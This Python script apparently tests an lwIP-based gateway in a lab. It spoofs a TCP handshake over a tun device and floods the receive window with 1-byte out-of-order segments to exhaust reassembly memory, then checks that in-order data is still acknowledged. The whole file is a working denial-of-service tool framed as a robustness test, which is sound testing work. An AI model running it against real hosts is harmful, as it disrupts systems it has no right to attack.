#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The 1-byte out-of-order attack, through the tun itself.

Opens one TCP connection to DST:DPORT from SRC (an address nobody owns, so
the client namespace's kernel ignores the gateway's answers) with hand-made
packets on the tun device (AF_PACKET, as inject.py), offering window
scaling so the gateway opens its whole 256 KiB window. Then it sends every
other byte of that window as its own 1-byte segment (offsets 1, 3, 5, ...),
never the bytes in between (at --rate segments/s), and finally the first
BLOCK bytes in order, and waits for the gateway's ACK of them (in-order
data still flows).
Standard library only.

  ooseq.py --dev tp0 --src 198.18.5.5 --dst 198.19.1.1 --dport 7430
prints one JSON line: {"segments": N, "send_s": S, "window": W,
"acked_block": true|false}; exit 1 if the handshake fails.
"""
import argparse
import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def words(data):
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def ip4(src, dst, tcp):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
                     src.packed, dst.packed)
    return ip[:10] + struct.pack("!H", (~fold(words(ip))) & 0xFFFF) + ip[12:]


def tcp_seg(src, dst, sport, dport, seq, ack, flags, wnd, opts=b"", data=b""):
    hl = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (hl // 4) << 4, flags, wnd, 0, 0)
    tcp += opts + data
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, 6, len(tcp))
    c = (~fold(words(pseudo + tcp))) & 0xFFFF
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    return ip4(src, dst, tcp) + tcp


def parse(pkt):
    if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != 6:
        return None
    ihl = (pkt[0] & 15) * 4
    t = pkt[ihl:]
    sport, dport, seq, ack, off, flags, wnd = struct.unpack("!HHIIBBH", t[:16])
    opts = t[20:(off >> 4) * 4]
    wscale = None
    i = 0
    while i < len(opts):
        k = opts[i]
        if k == 0:
            break
        if k == 1:
            i += 1
            continue
        if i + 1 >= len(opts) or opts[i + 1] < 2:
            break
        if k == 3 and opts[i + 1] == 3:
            wscale = opts[i + 2]
        i += opts[i + 1]
    return {"src": ipaddress.ip_address(pkt[12:16]), "dst": ipaddress.ip_address(pkt[16:20]),
            "sport": sport, "dport": dport, "seq": seq, "ack": ack, "flags": flags,
            "wnd": wnd, "wscale": wscale}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--dev", required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--block", type=int, default=1000)
    ap.add_argument("--wait", type=float, default=5.0)
    ap.add_argument("--rate", type=float, default=0, help="segments/s; 0 = as fast as possible")
    a = ap.parse_args()
    src, dst = ipaddress.ip_address(a.src), ipaddress.ip_address(a.dst)
    sport, isn = random.randint(20000, 60000), random.getrandbits(32)
    rx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    rx.bind((a.dev, ETH_P_ALL))
    rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    dest = (a.dev, ETH_P_IP)

    def wait_for(pred, secs):
        deadline = time.monotonic() + secs
        while True:
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([rx], [], [], left)[0]:
                return None
            pkt, addr = rx.recvfrom(70000)
            if addr[2] == PACKET_OUTGOING:
                continue
            t = parse(pkt)
            if t and t["src"] == dst and t["dst"] == src and t["sport"] == a.dport and \
                    t["dport"] == sport and pred(t):
                return t

    # SYN: MSS 1460, NOP, window scale 7
    opts = struct.pack("!BBH", 2, 4, 1460) + b"\x01\x03\x03\x07"
    tx.sendto(tcp_seg(src, dst, sport, a.dport, isn, 0, 0x02, 65535, opts), dest)
    sa = wait_for(lambda t: t["flags"] & 0x12 == 0x12 and t["ack"] == (isn + 1) & 0xFFFFFFFF,
                  a.wait)
    if not sa:
        print(json.dumps({"error": "no SYN-ACK"}))
        return 1
    seq0 = (isn + 1) & 0xFFFFFFFF
    ack = (sa["seq"] + 1) & 0xFFFFFFFF
    tx.sendto(tcp_seg(src, dst, sport, a.dport, seq0, ack, 0x10, 65535), dest)
    # the gateway's window: the SYN-ACK's is never scaled; with scaling
    # agreed it is lwIP's TCP_WND (lwipopts.h)
    window = 262144 if sa["wscale"] is not None else sa["wnd"]

    # every other byte of the window, one segment each: a constant header but
    # for seq and the byte, so the checksum is summed once and patched
    base_tcp = struct.pack("!HHIIBBHHH", sport, a.dport, 0, ack, 5 << 4, 0x10, 65535, 0, 0)
    pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, 6, 21)
    s0 = words(pseudo + base_tcp)
    iph = ip4(src, dst, b"\0" * 21)
    head, tail = base_tcp[:4], base_tcp[8:16]
    n = 0
    t0 = time.monotonic()
    for off in range(1, window, 2):
        seq = (seq0 + off) & 0xFFFFFFFF
        byte = (off * 7 + 3) & 0xFF
        c = (~fold(s0 + (seq >> 16) + (seq & 0xFFFF) + (byte << 8))) & 0xFFFF
        pkt = iph + head + struct.pack("!I", seq) + tail + struct.pack("!HHB", c, 0, byte)
        while True:
            try:
                tx.sendto(pkt, dest)
                break
            except BlockingIOError:
                time.sleep(0.0005)
        n += 1
        if a.rate and n % 256 == 0:
            ahead = t0 + n / a.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    send_s = time.monotonic() - t0
    # drain what the gateway answered meanwhile (dup ACKs)
    while select.select([rx], [], [], 0)[0]:
        rx.recvfrom(70000)
    # then the first --block bytes in order: the gateway must ACK them all
    block = bytes((i * 7 + 3) & 0xFF for i in range(a.block))
    tx.sendto(tcp_seg(src, dst, sport, a.dport, seq0, ack, 0x18, 65535, b"", block), dest)
    want = (seq0 + a.block) & 0xFFFFFFFF
    got = wait_for(lambda t: t["flags"] & 0x10 and
                   ((t["ack"] - want) & 0xFFFFFFFF) < (1 << 31), a.wait)
    tx.sendto(tcp_seg(src, dst, sport, a.dport, (seq0 + a.block) & 0xFFFFFFFF, 0, 0x04, 0), dest)
    print(json.dumps({"segments": n, "send_s": round(send_s, 3), "window": window,
                      "acked_block": got is not None,
                      "acked": ((got["ack"] - seq0) & 0xFFFFFFFF) if got else None}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
